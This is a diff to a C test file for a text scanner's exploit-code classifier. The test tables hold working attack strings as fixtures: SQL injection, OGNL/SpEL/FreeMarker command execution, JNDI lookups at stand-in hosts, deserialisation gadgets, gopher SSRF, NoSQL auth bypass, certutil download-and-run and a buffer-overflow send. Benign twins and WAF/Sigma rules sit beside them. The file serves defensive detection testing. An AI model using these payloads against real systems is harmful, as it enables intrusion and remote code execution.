@@ -2,6 +2,7 @@
  * suppression, positions, and the redaction round trip over tests/check/data. */
 #include "t.h"
 #include "corpus_util.h"
+#include "check/payload.h"
 #include "check/scan_int.h"
 
 #include <dirent.h>
@@ -1937,6 +1938,140 @@ test_shell_key(void)
 
 /* A table of people with their mobile numbers is dumped personal data; a
  * hotline is not (credential conventions: dumped user data). */
+/* Payloads judged by structure (review 13, C): each shape is found in a code
+ * line, an inline code span or a typed value, and its twin without the
+ * working structure (or in a defensive block) stays clean. */
+static void
+test_payload_shapes(void)
+{
+    static const char *const found[] = {
+        /* SQL with spaces: a broken quote, a clause, a function or a comment */
+        "注入点在 uid 参数，payload：`7' and extractvalue(1,concat(0x5c,(select user())))-- -`\n",
+        "```\n3') union select 1,2,group_concat(column_name) from information_schema.columns-- -\n"
+        "```\n",
+        "```\nuser=guest' or '2'='2&pwd=x\n```\n",
+        "在账号框输入 root' or 1=1# ，密码随便填。\n",
+        "```\n2;exec master..xp_cmdshell 'ipconfig'--\n```\n",
+        "把 sort 参数换成 `(select*from(select(benchmark(9000000,md5(1))))b)` 即可。\n",
+        /* expression languages reaching execution */
+        "```\n${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#c='ls')}\n```\n",
+        "```\n#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}\n```\n",
+        "```\n<#assign cmd=\"freemarker.template.utility.Execute\"?new()>${cmd(\"uname\")}\n```\n",
+        "参数：`view=__${T(java.lang.Runtime).getRuntime().exec(\"whoami\")}__::.k`\n",
+        /* JNDI at a real host, nested lookups, dns */
+        "payload: `${jndi:ldap://c2.northwind-fict.net:1389/Obj}`\n",
+        "```\nX-Forwarded-For: ${jndi:ldap://${env:HOSTNAME}.q9.dnslog.cn/x}\n```\n",
+        "在用户名处填入 `${jndi:dns://probe.fict-oob.org}` 即可。\n",
+        /* deserialisation objects */
+        "```\n{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://oob.fict.cn/"
+        "E\"}\n"
+        "```\n",
+        "```\nO:7:\"Session\":1:{s:3:\"cmd\";s:2:\"id\";}\n```\n",
+        "把 Cookie 改为 `O:5:\"Cache\":1:{s:4:\"path\";s:9:\"/tmp/a.php\";}` 即可。\n",
+        /* H2, gopher, NoSQL, extension cuts, shell separators */
+        "```\njdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://oob.fict.cn/a.sql'\n```\n",
+        "在 img 参数填入 `gopher://10.1.1.5:6379/_%2A2%0D%0A%244%0D%0Ainfo%0D%0A` 即可。\n",
+        "```\nPOST /api/auth HTTP/1.1\nHost: "
+        "10.2.3.4\n\n{\"user\":{\"$gt\":\"\"},\"pass\":{\"$gt\":\"\"}}\n"
+        "```\n",
+        "```\nGET /login?user[$ne]=x&pass[$ne]=x HTTP/1.1\n```\n",
+        "上传时把文件名改为 `cmd.aspx::$DATA` 即可绕过。\n",
+        "```\nContent-Disposition: form-data; name=\"f\"; filename=\"x.jsp%00.png\"\n```\n",
+        "在 IP 输入框输入 `10.0.0.1 ; whoami` 即可回显。\n",
+    };
+    static const char *const clean[] = {
+        /* SQL and code that only look like it */
+        "```sql\nSELECT * FROM t WHERE name = 'bob' AND age > 3 -- adults\n```\n",
+        "```python\nvalue = cfg.get('a') or 'b'  # default\n```\n",
+        "```c\nif (ok(a) && check_password(b)) return;\n```\n",
+        "输入用户名 admin 和密码即可登录。\n",
+        /* payloads named without their working string */
+        "利用 `${jndi:ldap://...}` 这类查找即可触发。\n",
+        "payload: `${jndi:ldap://attacker:1389/a}`\n",
+        "SpEL 的 `T(java.lang.Runtime)` 类型引用可被滥用。\n",
+        "```\n{\"@type\":\"com.fict.User\",\"name\":\"x\"}\n```\n",
+        "```\nO:3:\"Session\":1:{s:3:\"cmd\";}\n```\n",
+        "`gopher://` 协议常被用于 SSRF。\n",
+        "```js\ndb.users.find({\"age\": {\"$gt\": 18}})\n```\n",
+        "```\nls -la | cat /etc/passwd\n```\n",
+        /* defensive blocks quote payloads so they can be matched */
+        "```\nSecRule ARGS \"@contains ' or '1'='1\" \"id:1001,deny\"\n```\n",
+        "```sigma\ndetection:\n  sel:\n    q|contains: \"' or '1'='1\"\n  condition: sel\n"
+        "logsource:\n  category: webserver\n```\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++)
+        if (count_block(found[i], "exploit_code") == 0)
+            T_FAIL_AT("no exploit_code in: %s", found[i]);
+    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
+        if (count_rule(clean[i], "exploit_code", NULL) != 0)
+            T_FAIL_AT("exploit_code in: %s", clean[i]);
+}
+
+/* The classifier reads at most EMB_PAYLOAD_MAX bytes: a span of exactly that
+ * length is judged, one byte more is not (the validator windows long lines). */
+static void
+test_payload_bounds(void)
+{
+    static const char tail[] = "1' and sleep(5)-- -";
+    char buf[EMB_PAYLOAD_MAX + 2];
+    size_t m = sizeof tail - 1;
+
+    memset(buf, 'a', sizeof buf);
+    buf[0] = ' ';
+    memcpy(buf + EMB_PAYLOAD_MAX - m, tail, m);
+    T_EQ_INT(emb_payload_classify(buf + EMB_PAYLOAD_MAX - m, m, 0), EMB_PL_SQL);
+    T_EQ_INT(emb_payload_classify(buf, EMB_PAYLOAD_MAX, 0), EMB_PL_SQL);
+    memmove(buf + 1, buf, EMB_PAYLOAD_MAX);
+    T_EQ_INT(emb_payload_classify(buf, EMB_PAYLOAD_MAX + 1, 0), EMB_PL_NONE);
+    T_EQ_INT(emb_payload_classify(buf, 0, 0), EMB_PL_NONE);
+    /* a long code line still counts: the validator judges the window at the hit */
+    {
+        size_t n = 3 * EMB_PAYLOAD_MAX;
+        char *doc = malloc(n + 16);
+        T_OK(doc != NULL);
+        if (doc == NULL)
+            return;
+        memcpy(doc, "```\n", 4);
+        memset(doc + 4, 'b', n);
+        memcpy(doc + 4 + n / 2, " 1' or '1'='1 ", 14);
+        memcpy(doc + 4 + n, "\n```\n", 6);
+        T_OK(count_block(doc, "exploit_code.payload_shape") == 1);
+        free(doc);
+    }
+}
+
+/* Commands and scripts whose payload is in the body, the download or the
+ * bytes sent (review 13, D/E), and their twins. */
+static void
+test_payload_commands(void)
+{
+    static const char *const found[] = {
+        "```\ncurl -s -X POST http://TARGET/fict/run --data 'command=whoami'\n```\n",
+        "```\ncertutil.exe -urlcache -split -f http://203.0.113.9/u.exe %TEMP%\\u.exe & "
+        "%TEMP%\\u.exe\n"
+        "```\n",
+        "```python\nimport socket, struct\nc = socket.socket()\nc.connect((\"192.168.7.3\", 21))\n"
+        "c.send(b\"USER \" + b\"A\"*260 + struct.pack(\"<I\", 0x7c9d30d7) + b\"\\x90\"*8 + "
+        "sc)\n```\n",
+    };
+    static const char *const clean[] = {
+        "```\ncurl -X POST http://TARGET/fict/list -d 'sort=id'\n```\n",
+        "```\ncertutil -urlcache -f http://203.0.113.9/tool.zip tool.zip\n```\n",
+        "```\ncertutil -hashfile setup.exe SHA256\n```\n",
+        "```python\nimport socket, struct\nc = socket.socket()\nc.connect((\"192.168.7.3\", 21))\n"
+        "c.send(struct.pack(\"<I\", len(msg)) + msg)\n```\n",
+        "```python\nfrom pwn import *\nio = process('./lab')\nio.sendline(b'A'*40 + "
+        "p64(0x401136))\n"
+        "```\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++)
+        if (count_block(found[i], "exploit_code") == 0)
+            T_FAIL_AT("no exploit_code in: %s", found[i]);
+    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
+        if (count_rule(clean[i], "exploit_code", NULL) != 0)
+            T_FAIL_AT("exploit_code in: %s", clean[i]);
+}
+
 static void
 test_phone_table(void)
 {
@@ -2191,6 +2326,9 @@ main(void)
     T_RUN(test_literal_target_poc);
     T_RUN(test_shell_key);
     T_RUN(test_phone_table);
+    T_RUN(test_payload_shapes);
+    T_RUN(test_payload_bounds);
+    T_RUN(test_payload_commands);
     T_RUN(test_redaction_roundtrip);
     T_RUN(test_review12_logins);
     T_RUN(test_review12_prose_passwords);
